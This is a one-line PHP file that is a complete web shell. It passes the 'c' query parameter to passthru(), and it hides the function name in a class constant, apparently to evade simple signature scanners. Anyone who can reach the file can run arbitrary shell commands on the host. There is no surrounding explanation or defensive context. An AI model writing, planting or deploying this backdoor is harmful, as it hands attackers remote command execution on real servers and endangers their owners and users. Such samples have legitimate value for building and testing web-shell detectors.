<?php class C { const F = "passthru"; } $f = C::F; $f($_GET["c"]);
